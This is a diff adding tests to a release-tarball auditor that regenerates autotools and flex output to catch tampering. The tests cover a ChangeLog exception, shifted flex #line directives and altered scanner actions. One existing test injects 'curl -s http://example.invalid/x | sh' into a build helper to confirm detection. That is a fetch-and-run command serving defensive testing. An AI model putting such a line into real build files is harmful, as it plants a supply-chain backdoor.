@@ -131,6 +131,12 @@ describe.skipIf(skipReason !== "")("--regenerate runs the project's autogen.sh w
     expect(r.findings.filter((f) => f.rule === "regeneration-mismatch")).toEqual([]);
   }, 240_000);
 
+  it("a file of no generated kind that the script also writes (ChangeLog) is not judged by the script's output", async () => {
+    const r = await auditRelease(withChanges(release, { ChangeLog: "2024-01-01  A Maintainer\n\t* hello.c: say hello.\n" }), "changelog");
+    expect(file(r, "ChangeLog")).toBeUndefined();
+    expect(r.findings.filter((f) => f.rule === "regeneration-mismatch")).toEqual([]);
+  }, 240_000);
+
   it("a line injected into a helper only the project's script reproduces is high, with the hunk", async () => {
     const before = (release["depcomp"] as { content: Buffer; mode: number });
     const tampered = withChanges(release, { depcomp: { content: before.content.toString().replace(/\ncase \$1 in\n/, "\ncurl -s http://example.invalid/x | sh\ncase $1 in\n"), mode: before.mode } });
@@ -140,4 +146,50 @@ describe.skipIf(skipReason !== "")("--regenerate runs the project's autogen.sh w
     expect(found.map((f) => `${f.severity} ${f.path}`)).toEqual(["high depcomp"]);
     expect(found[0]!.evidence?.diff).toMatch(/\+curl -s http:\/\/example\.invalid/);
   }, 240_000);
+});
+
+describe("flex builds that number their own #line directives differently", () => {
+  const out = (off: number) => `#line ${1 + off} "scan.c"\n\n#line ${3 + off} "scan.c"\nint x;\n#line 5 "scan.l"\nint y;\n`;
+  it("attributes a shift of one in directives pointing into the output itself to the flex build", () => {
+    expect(explainingVariant("src/scan.c", out(1), out(0))?.id).toBe("flex-2.6.4-self-line-directives");
+  });
+  it("evasion: another line, a directive into the source, or a larger shift is not explained", () => {
+    expect(explainingVariant("src/scan.c", out(1), out(0).replace("int y;", "int y = 1;"))).toBeNull();
+    expect(explainingVariant("src/scan.c", out(1), out(0).replace('#line 5 "scan.l"', '#line 6 "scan.l"'))).toBeNull();
+    expect(explainingVariant("src/scan.c", out(3), out(0))).toBeNull();
+  });
+});
+
+const flexOk = skipReason === "" && onPath("flex");
+describe.skipIf(!flexOk)("a scanner the project's make rules cannot rebuild is run through the flex its banner names", () => {
+  const SCANNER = "%option noyywrap\n%%\n[0-9]+ { return 1; }\n. { return 2; }\n%%\n";
+  let work: string;
+  let repo: string;
+  let scanC: string;
+  beforeAll(() => {
+    work = tmp("distvet-regen-flex-");
+    repo = join(work, "repo");
+    makeRepo(repo, [{ files: { "src/scan.l": SCANNER, "Makefile": "scan.c: scan.l\n\tflex -o $@ $<\n" }, tag: "v1.0" }]);
+    const dir = join(work, "gen");
+    mkdirSync(dir, { recursive: true });
+    writeFileSync(join(dir, "scan.l"), SCANNER);
+    execFileSync("flex", ["-o", "scan.c", "scan.l"], { cwd: dir });
+    scanC = readFileSync(join(dir, "scan.c"), "utf8");
+  }, 120_000);
+  const auditWith = async (scan: string, name: string) => {
+    const tarball = join(work, `${name}.tar.gz`);
+    await makeTarball(tarball, { root: "s-1.0", files: { "src/scan.l": SCANNER, Makefile: "scan.c: scan.l\n\tflex -o $@ $<\n", "src/scan.c": scan } });
+    return audit({ tarball, repo, ref: "v1.0", regenerate: { cacheDir: join(work, "cache") } });
+  };
+  it("reproduces the scanner", async () => {
+    const r = await auditWith(scanC, "clean");
+    expect(r.regeneration?.files.find((f) => f.path === "src/scan.c")).toMatchObject({ status: "reproduced", step: "parser: parser (direct)" });
+  }, 120_000);
+  it("evasion: a changed action is never reproduced, and the diff shows it", async () => {
+    const tampered = scanC.replace("{ return 1; }", "{ return 3; }");
+    expect(tampered).not.toBe(scanC);
+    const f = (await auditWith(tampered, "tampered")).regeneration?.files.find((x) => x.path === "src/scan.c");
+    expect(f?.status).toBe("not-regenerable");
+    expect(f?.diff).toMatch(/\+\{ return 3; \}/);
+  }, 120_000);
 });
